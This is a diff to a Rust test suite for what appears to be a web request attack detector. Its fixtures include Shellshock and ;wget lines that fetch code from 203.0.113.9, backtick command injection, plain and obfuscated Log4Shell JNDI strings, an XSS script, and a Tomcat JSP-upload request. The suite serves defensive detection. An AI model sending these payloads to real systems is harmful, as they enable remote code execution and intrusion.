@@ -98,7 +98,7 @@ fn attacks_in_agents_are_told() {
     check_agent("() { :;}; /bin/bash -c \"curl http://203.0.113.9/x\"", &["rce"]);
     check_agent(";wget http://203.0.113.9/x", &["rce"]);
     check_agent("`id`", &["rce"]);
-    check_agent("${jndi:ldap://203.0.113.9/a}", &["jndi"]);
+    check_agent("${jndi:ldap://203.0.113.9/a}", &["jndi", "cve"]);
     check_agent("Mozilla/5.0\x1b[2J", &["log_injection"]);
     check_agent("<script>alert(1)</script>", &["xss"]);
 }
@@ -162,6 +162,11 @@ fn a_weakness_is_named_for_its_method_only() {
     assert_eq!(Some("CVE-2019-19781"), cve("GET", "/vpn/../vpns/cfg/smb.conf"));
     assert_eq!(Some("CVE-2019-19781"), cve("GET", "/vpn/%2e%2e/vpns/cfg/smb.conf"));
     assert_eq!(None, cve("GET", "/vpns/"));
+    assert_eq!(Some("CVE-2017-12615"), cve("PUT", "/shell.jsp/"));
+    assert_eq!(None, cve("GET", "/list.jsp/"));
+    let agent = b"${${::-j}${::-n}${::-d}${::-i}:ldap://203.0.113.9/a}";
+    let signs = signs_of(&Request { target: b"/", agent, ..Request::default() });
+    assert_eq!(Some("CVE-2021-44228"), signs.cve());
 }
 
 fn view(text: &[u8], shape: Shape) -> String {
@@ -273,7 +278,20 @@ fn any_text() -> impl Strategy<Value = Vec<u8>> {
         proptest::sample::select(WORDS).prop_map(<[u8]>::to_vec),
         proptest::collection::vec(any::<u8>(), 0..4),
     ];
-    proptest::collection::vec(word, 0..40).prop_map(|words| words.concat())
+    let words = proptest::collection::vec(word, 0..40).prop_map(|words| words.concat());
+    prop_oneof![words, spliced()]
+}
+
+/// The beginning of one case and the end of another.
+fn spliced() -> impl Strategy<Value = Vec<u8>> {
+    let attacks = FIRING.iter().flat_map(|(_, targets)| targets.iter());
+    let cases: Vec<&'static str> = attacks.chain(HONEST).copied().collect();
+    let case = proptest::sample::select(cases);
+    (case.clone(), case, any::<(u8, u8)>()).prop_map(|(first, second, (cut, from))| {
+        let (first, second) = (first.as_bytes(), second.as_bytes());
+        let (cut, from) = (usize::from(cut).min(first.len()), usize::from(from).min(second.len()));
+        [&first[..cut], &second[from..]].concat()
+    })
 }
 
 proptest! {
